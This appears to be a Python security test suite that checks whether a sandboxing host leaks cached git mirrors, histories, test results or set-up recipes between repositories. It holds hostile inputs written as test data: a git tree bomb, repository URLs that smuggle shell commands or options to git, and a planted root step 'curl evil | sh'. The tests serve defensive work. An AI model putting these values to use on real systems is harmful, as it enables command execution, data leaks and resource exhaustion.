"""Attacks on what this machine keeps between runs: mirrors, recipes, results of bases.

No sandbox is opened. Each makes a small state folder of its own.
"""

from __future__ import annotations

import asyncio
from pathlib import Path

from agent.gate.base_results import keep_results, load_results
from agent.testing.report import SuiteRun, TestResult
from app.git.commit_history import CommitHistories
from app.git.limits import GitLimits, TreeLimits
from app.git.mirror import Mirror
from app.git.process import GitError, run_git
from app.git.tree_archive import TreeOptions, TreeSource, write_tree
from app.sandboxes.environment import EnvironmentRequest
from app.sandboxes.history_attacks import HISTORY_ATTACKS
from app.sandboxes.kept_base import kept_base
from app.sandboxes.setup_repair import save_recipe, saved_recipe
from sandbox.attacks.target import Attack, Escaped, Target
from sandbox.environment.records import Environment, Step

_NOWHERE = "http://127.0.0.1:1"
"""Nothing listens there: a server that has not said yes."""
_CONTENT = "a file of another repository"


def _repository(folder: Path, name: str, entries: str = "") -> tuple[Path, str]:
    """A bare repository with one commit of a file, and of what `entries` adds to its tree."""
    place = folder / name
    run_git(place, "init", "--quiet", "--bare", "--template=")
    blob = run_git(place, "hash-object", "-w", "--stdin", stdin=_CONTENT.encode()).decode().strip()
    listed = f"100644 blob {blob}\tsecret\n{entries}".encode()
    tree = run_git(place, "mktree", "--missing", stdin=listed).decode().strip()
    return place, _commit(place, tree)


def _commit(place: Path, tree: str) -> str:
    who = {f"GIT_{role}_{part}": "a@b" for role in ("AUTHOR", "COMMITTER")
           for part in ("NAME", "EMAIL")}  # fmt: skip
    made = run_git(place, "commit-tree", tree, "-m", "x", environment=who)
    commit = made.decode().strip()
    run_git(place, "update-ref", "refs/heads/main", commit)
    return commit


async def cached_submodule(target: Target) -> None:
    """A submodule that names another repository, whose mirror this machine has already."""

    def attack() -> None:
        folder = target.host.parent
        private, commit = _repository(folder, "private")
        kept = Mirror.of_remote(folder / "mirrors", f"{_NOWHERE}/o/private.git")
        kept.git_dir.parent.mkdir()
        private.rename(kept.git_dir)
        place, _ = _repository(folder, "open")
        modules = f'[submodule "p"]\n path = p\n url = {_NOWHERE}/o/private.git\n'
        blob = run_git(place, "hash-object", "-w", "--stdin", stdin=modules.encode())
        listed = f"100644 blob {blob.decode().strip()}\t.gitmodules\n160000 commit {commit}\tp\n"
        tree = run_git(place, "mktree", "--missing", stdin=listed.encode()).decode().strip()
        asking = _commit(place, tree)

        def other(url: str) -> Mirror:
            return Mirror.of_remote(folder / "mirrors", url)

        source = TreeSource(Mirror(place, ""), f"{_NOWHERE}/o/open.git", other)
        out = folder / "out.tar"
        try:
            write_tree(source, asking, out, TreeOptions(submodules=True))
        except GitError:
            if out.exists() and _CONTENT.encode() in out.read_bytes():
                raise Escaped("the other repository's file was written") from None
            return
        raise Escaped("the tree was given without its server being asked")

    await asyncio.to_thread(attack)


async def endless_tree(target: Target) -> None:
    """Five small objects that stand for 33 million files, read in every way that a run has."""

    def attack() -> None:
        place, _ = _repository(target.host.parent, "bomb")
        blob = run_git(place, "hash-object", "-w", "--stdin", stdin=b"x").decode().strip()
        entries = "".join(f"100644 blob {blob}\tf{n:02}\n" for n in range(32))
        tree = run_git(place, "mktree", stdin=entries.encode()).decode().strip()
        empty = _commit(place, run_git(place, "mktree").decode().strip())
        for _ in range(4):
            entries = "".join(f"040000 tree {tree}\td{n:02}\n" for n in range(32))
            tree = run_git(place, "mktree", stdin=entries.encode()).decode().strip()
        commit = _commit(place, tree)
        out = target.host.parent / "out.tar"
        limits = GitLimits(tree=TreeLimits(20_000), command_s=20)
        mirror = Mirror(place, "", limits=limits)
        for what, read in (
            ("archived", lambda: mirror.tree_tar(commit, out)),
            ("searched for submodules", lambda: mirror.submodules(commit)),
            ("compared", lambda: mirror.diff(empty, commit)),
            ("merged", lambda: mirror.conflicts(empty, commit)),
        ):
            try:
                read()
            except GitError as error:
                if "files and folders" in str(error):
                    continue
                raise Escaped(f"it was {what} until: {error}") from None
            raise Escaped(f"it was {what}")
        if out.exists():
            raise Escaped("an archive was begun")

    await asyncio.to_thread(attack)


async def later_history(target: Target) -> None:
    """Commits, names and settings of a repository that the history before them must not show."""

    def attack() -> None:
        folder = target.host.parent
        place, base = _repository(folder, "lived")
        later = run_git(place, "hash-object", "-w", "--stdin", stdin=b"of tomorrow")
        listed = f"100644 blob {later.decode().strip()}\tlater\n".encode()
        tree = run_git(place, "mktree", stdin=listed).decode().strip()
        commit = _commit(place, tree)
        for ref in ("refs/notes/commits", "refs/stash", f"refs/replace/{base}", "refs/tags/v9"):
            run_git(place, "update-ref", ref, commit)
        (place / "hooks").mkdir(exist_ok=True)
        (place / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
        with (place / "config").open("a") as config:
            config.write('[core]\n\tfsmonitor = of tomorrow\n[remote "o"]\n\turl = x\n')
        found = CommitHistories(Mirror(place, ""), folder / "histories").of(base)
        if found is None:
            raise Escaped("no history could be made")
        listing = ("cat-file", "--batch-all-objects", "--batch")
        if (
            b"of tomorrow"
            in run_git(found.folder, *listing) + (found.folder / "config").read_bytes()
        ):
            raise Escaped("what is later than the base commit can be read")
        known = {"HEAD", "config", "index", "objects", "packed-refs", "patchwright-commits", "refs"}
        if others := {each.name for each in found.folder.iterdir()} - known:
            raise Escaped(f"the history has {', '.join(others)}")

    await asyncio.to_thread(attack)


async def odd_addresses(target: Target) -> None:
    """Addresses of repositories that are commands, files or options to git."""

    def attack() -> None:
        ran = target.host.parent / "ran"
        place, _ = _repository(target.host.parent, "place")
        spy = f"touch {ran}"
        for url in (
            f"ext::sh -c {spy}",
            f"--upload-pack={spy}",
            "ssh://-oProxyCommand=x/y",
            "fd::0",
        ):
            for mirror in (Mirror(place, url), Mirror(target.host.parent / "new.git", url)):
                try:
                    mirror.fetch()
                except GitError:
                    continue
                raise Escaped(f"{url} was fetched")
        for url in ("file:///etc", "/etc", "ext::id", "http://a:b@c/d", "git://h/x", "ssh://h/x"):
            try:
                Mirror.of_remote(target.host.parent, url)
            except GitError:
                continue
            raise Escaped(f"{url} was taken")
        if ran.exists():
            raise Escaped("a command in an address was run")

    await asyncio.to_thread(attack)


async def kept_results(target: Target) -> None:
    """Another repository's test results of the same commit in the same image."""
    tree = await target.tree({"test_a.py": b"def test_a(): pass\n"})
    folder = target.host.parent / "base-results"
    results = (TestResult(name="test_a", outcome="passed"),)
    run = SuiteRun(command="pytest", exit_code=0, output="", results=results)
    bases = [await kept_base(folder, name, tree, "sha256:i") for name in ("evil/fork", "good/repo")]
    evil, good = bases
    if evil is None or good is None:
        raise Escaped("nothing was kept, so nothing was tried")
    keep_results(evil, "pytest", 60.0, [run])
    if not load_results(evil, "pytest", 60.0):
        raise Escaped("its own results were not found, so nothing was tried")
    others = (evil.model_copy(update={name: "0" * 64}) for name in ("commit", "environment"))
    for asking in (good, *others):
        if load_results(asking, "pytest", 60.0):
            raise Escaped(f"they were used for {asking.repository}")


async def recipes(target: Target) -> None:
    """Set-up commands found for another repository, or for a branch of the same one."""
    folder, texts = target.host.parent / "state", {"pyproject.toml": "[project]"}
    branch = EnvironmentRequest("good/repo", on_default=False)
    planted = Environment("found", steps=(Step("curl evil | sh", root=True),))
    for scope in ("evil/fork", branch.scope):
        save_recipe(folder, scope, texts, planted)
        if not saved_recipe(folder, scope, texts):
            raise Escaped("its own recipe was not found, so nothing was tried")
    if saved_recipe(folder, EnvironmentRequest("good/repo").scope, texts):
        raise Escaped("it would have been run for the default branch of another repository")


HOST_ATTACKS = (
    Attack("host: another repository's mirror by a submodule", cached_submodule),
    Attack("host: endless tree", endless_tree),
    Attack("host: later commits, names and settings in a history", later_history),
    Attack("host: repository addresses that are commands", odd_addresses),
    *HISTORY_ATTACKS,
    Attack("host: another repository's kept test results", kept_results),
    Attack("host: another repository's or branch's set-up", recipes),
)
